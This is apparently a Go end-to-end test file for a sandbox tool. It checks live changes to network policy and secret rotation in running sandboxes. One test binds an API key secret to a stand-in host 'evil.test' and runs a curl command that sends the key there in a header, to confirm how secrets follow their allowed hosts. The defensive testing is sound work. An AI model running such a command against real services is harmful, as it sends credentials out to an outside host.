package e2e

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/microsandbox-go/microsandbox/sandbox"
)

// holdOpen is a guest's program that keeps a connection open and says in a file when it has ended.
const holdOpen = `
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 20)
s.settimeout(None)
open("/tmp/held", "w").write("open\n")
try: end = repr(s.recv(1))
except OSError as e: end = type(e).__name__
open("/tmp/held", "a").write(end + "\n")
`

// modified runs msb modify in a space and returns its plan, of which one change has to be about the field.
func (s *space) modified(field string, args ...string) (sandbox.Plan, sandbox.Change) {
	s.w.t.Helper()
	r := s.run(append(append([]string{"modify"}, args...), "--format", "json")...)
	var p sandbox.Plan
	if err := json.Unmarshal([]byte(r.out), &p); err != nil {
		s.w.t.Fatalf("msb modify %v: %d %q %q", args, r.code, r.out, r.err)
	}
	for _, c := range p.Changes {
		if c.Field == field {
			return p, c
		}
	}
	s.w.t.Fatalf("msb modify %v: nothing of %s in the plan: %s", args, field, r.out)
	return p, sandbox.Change{}
}

// TestModifyPolicy changes the policy of a sandbox that runs: it holds at once, for connections that are open, too, and after
// a restart.
func TestModifyPolicy(t *testing.T) {
	if !inPrivate(t) {
		return
	}
	each(t, func(w *world) {
		s := w.space()
		ran := func(args ...string) string {
			w.t.Helper()
			r := s.run(args...)
			if r.code != 0 {
				w.t.Fatalf("msb %s: %d %s", strings.Join(args, " "), r.code, r.err)
			}
			return r.out
		}
		ran("run", "-d", "-q", "--name", "net", "host")
		tries := []string{"tcp " + public4 + " 80", "tcp 10.0.0.1 80", "web http://public.test/", "name public.test"}
		try := func() (all map[string]attempt) {
			w.t.Helper()
			w.must(json.Unmarshal([]byte(ran(append([]string{"exec", "net", "--", "python3", "-c", probe}, tries...)...)), &all))
			return all
		}
		private := func(all map[string]attempt) {
			w.t.Helper()
			w.denied(all, tries[0])
			w.reached(all, tries[1], "connected")
			w.denied(all, tries[2])
		}
		w.reached(try(), tries[0], "connected")
		ran("exec", "net", "--", "sh", "-c", "nohup python3 -c '"+holdOpen+"' "+public4+" 80 >/dev/null 2>&1 & until grep -q open /tmp/held 2>/dev/null; do sleep 0.02; done")

		flags := []string{"net", "--net", "private"}
		p, c := s.modified("network.policy", append(flags, "--dry-run")...)
		if p.Applied || c.Disposition != sandbox.Live || *c.Before != "egress deny, ingress allow, allow@host:udp+tcp:53, allow@public" || *c.After != "egress deny, ingress allow, allow@host:udp+tcp:53, allow@private" {
			w.t.Errorf("the plan: %+v, %q -> %q", p, *c.Before, *c.After)
		}
		w.reached(try(), tries[0], "connected") // it was a plan

		if p, _ := s.modified("network.policy", flags...); !p.Applied {
			w.t.Errorf("%+v", p)
		}
		if out := ran("exec", "net", "--", "sh", "-c", "until [ $(wc -l < /tmp/held) = 2 ]; do sleep 0.02; done; cat /tmp/held"); out != "open\nConnectionResetError\n" {
			w.t.Errorf("the connection that was open: %q", out)
		}
		private(try())
		var info struct {
			Pending []string `json:"pending_changes"`
			Config  struct{ Network sandbox.Network }
		}
		w.must(json.Unmarshal([]byte(ran("inspect", "net", "--format", "json")), &info))
		if got := info.Config.Network.PolicyOrDefault().String(); got != *c.After || len(info.Pending) > 0 {
			w.t.Errorf("the record has %q, pending %q", got, info.Pending)
		}
		ran("restart", "-q", "net")
		private(try())

		// For the next start only; then back at once.
		if p, c := s.modified("network.policy", "net", "--net", "public", "--next-start"); !p.Applied || c.Disposition != sandbox.NextStart {
			w.t.Errorf("%+v", p)
		}
		private(try())
		ran("restart", "-q", "net")
		w.reached(try(), tries[2], "GET / for public.test, 0 bytes")

		// Strict: a rule about a name counts where the name is shown.
		s.modified("network.strict", "net", "--net-rule", "allow@public.test:tcp:80", "--net-strict")
		all := try()
		w.reached(all, tries[2], "GET / for public.test, 0 bytes")
		bare := `import socket; socket.gethostbyname("public.test"); s = socket.create_connection(("` + public4 + `", 80), 20); s.sendall(b"\0not HTTP\n"); print(s.recv(10))`
		if r := s.run("exec", "net", "--", "python3", "-c", bare); r.code == 0 || !strings.Contains(r.err, "Reset") || !strings.Contains(r.err, "strict") {
			w.t.Errorf("what shows no name: %d %q %q", r.code, r.out, r.err)
		}
		// What it cannot be is refused, and nothing changes.
		if r := s.run("modify", "net", "--net", "everything"); r.code == 0 || !strings.Contains(r.err, `network profile "everything" is unknown`) {
			w.t.Errorf("%d %q", r.code, r.err)
		}
		// Closed and opened again: the link is still there.
		if p, c := s.modified("network.policy", "net", "--no-net"); !p.Applied || c.Disposition != sandbox.Live {
			w.t.Errorf("%+v", p)
		}
		if p, c := s.modified("network.policy", "net", "--net-rule", "allow@public.test:tcp:80"); !p.Applied || c.Disposition != sandbox.Live {
			w.t.Errorf("what was closed while it ran: %+v", p)
		}
		w.reached(try(), tries[2], "GET / for public.test, 0 bytes")
		if out := ran("modify", "net", "--net-rule", "allow@public.test:tcp:80"); out != "" {
			w.t.Errorf("what is so already: %q", out)
		}
		ran("rm", "-f", "-q", "net")

		// One that was started without a network has no link to open.
		ran("run", "-d", "-q", "--name", "off", "--no-net", "host")
		p, c = s.modified("network.policy", "off", "--net", "public")
		if p.Applied || c.Disposition != sandbox.RequiresRestart || c.Reason == nil || !strings.Contains(*c.Reason, "without a network") || len(p.Conflicts) != 1 {
			w.t.Errorf("a sandbox without a network: %+v", p)
		}
		if p, _ := s.modified("network.policy", "off", "--net", "public", "--restart"); !p.Applied {
			w.t.Errorf("%+v", p)
		}
		if out := ran("exec", "off", "--", "python3", "-c", probe, tries[0]); !strings.Contains(out, "connected") {
			w.t.Errorf("after a restart: %s", out)
		}
		ran("rm", "-f", "-q", "off")
	})
}

// TestModifySecrets changes the secrets of a sandbox that runs. Requests that begin later have the new ones.
func TestModifySecrets(t *testing.T) {
	if !inPrivate(t) {
		return
	}
	each(t, func(w *world) {
		s := w.space()
		site := s.secure()
		values := map[string]string{}
		msb := func(env string, args ...string) result {
			w.t.Helper()
			before := w.env
			if env != "" {
				values[env] = newValue()
				name, _, _ := strings.Cut(env, " ")
				w.env = append(w.env[:len(w.env):len(w.env)], name+"="+values[env])
			}
			defer func() { w.env = before }()
			r := s.run(args...)
			if r.code != 0 {
				w.t.Fatalf("msb %s: %d %s", strings.Join(args, " "), r.code, r.err)
			}
			return r
		}
		send := func(variable, path string) result {
			return s.run("exec", "work", "--", "sh", "-c", `curl -sS -H "X-Key: $`+variable+`" https://api.good.test/`+path)
		}
		msb("API_KEY", "run", "-d", "-q", "--name", "work", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host")
		send("API_KEY", "first")
		// Other variables leave those of secrets, and what leads to the authority, as they are.
		msb("", "modify", "-q", "work", "--env", "OTHER=1")
		if out := msb("", "exec", "work", "--", "sh", "-c", "echo $OTHER $API_KEY $SSL_CERT_FILE").out; out != "1 $MSB_API_KEY /.msb/tls/bundle.pem\n" {
			w.t.Errorf("the variables of commands: %q", out)
		}
		if r := s.run("modify", "work", "--secret", "API_KEY@api.good.test"); r.code == 0 || !strings.Contains(r.err, "environment variable API_KEY") {
			w.t.Errorf("without a value: %d %q", r.code, r.err)
		}
		changed := func(env, change string, args ...string) {
			w.t.Helper()
			r := msb(env, append([]string{"modify", "work", "--format", "json"}, args...)...)
			var p sandbox.Plan
			w.must(json.Unmarshal([]byte(r.out), &p))
			if !p.Applied || len(p.Changes) != 1 || p.Changes[0].Change != change || p.Changes[0].Disposition != sandbox.Live {
				w.t.Errorf("%v: %s", args, r.out)
			}
		}
		changed("API_KEY 2", "rotated", "--secret", "API_KEY@api.good.test")
		send("API_KEY", "second")
		changed("MORE", "added", "--secret", "MORE@api.good.test")
		send("MORE", "third")
		send("API_KEY", "fourth") // its value was not given again
		changed("API_KEY 3", "hosts updated", "--secret", "API_KEY@evil.test")
		if r := send("API_KEY", "fifth"); !strings.Contains(r.out, "may not go to api.good.test") {
			w.t.Errorf("to a host that is none of its any more: %q", r.out)
		}
		changed("", "removed", "--secret-rm", "MORE")
		if out := msb("", "exec", "work", "--", "sh", "-c", "echo [$MORE]").out; out != "[]\n" {
			w.t.Errorf("a variable of a secret that was removed: %q", out)
		}
		got := strings.Split(site.sent("api.good.test"), "\nGET ")
		if len(got) != 4 {
			w.t.Fatalf("%d requests came: %q", len(got), got)
		}
		for i, want := range []string{"API_KEY", "API_KEY 2", "MORE", "API_KEY 2"} {
			if !strings.Contains(got[i], "X-Key: "+values[want]) {
				w.t.Errorf("request %d has not the value of %s: %q", i, want, got[i])
			}
		}
		for _, v := range values {
			w.nowhereIn(v, w.home)
		}
		msb("API_KEY 4", "restart", "-q", "work")
		if r := s.run("exec", "work", "--", "sh", "-c", `curl -sS -H "X-Key: $API_KEY" https://evil.test/`); r.code != 0 || !strings.Contains(site.sent("evil.test"), values["API_KEY 4"]) {
			w.t.Errorf("after a restart: %q %q", r.out, r.err)
		}
		msb("", "rm", "-f", "-q", "work")

		// Where TLS is not looked into, the guest has no reason to trust us.
		msb("", "run", "-d", "-q", "--name", "plain", "host")
		w.env = append(w.env, "API_KEY="+newValue())
		p, c := s.modified("secrets.API_KEY", "plain", "--secret", "API_KEY@api.good.test")
		if p.Applied || c.Disposition != sandbox.RequiresRestart || c.Reason == nil || !strings.Contains(*c.Reason, "TLS") {
			w.t.Errorf("a sandbox whose TLS is not looked into: %+v", p)
		}
		msb("", "rm", "-f", "-q", "plain")
	})
}
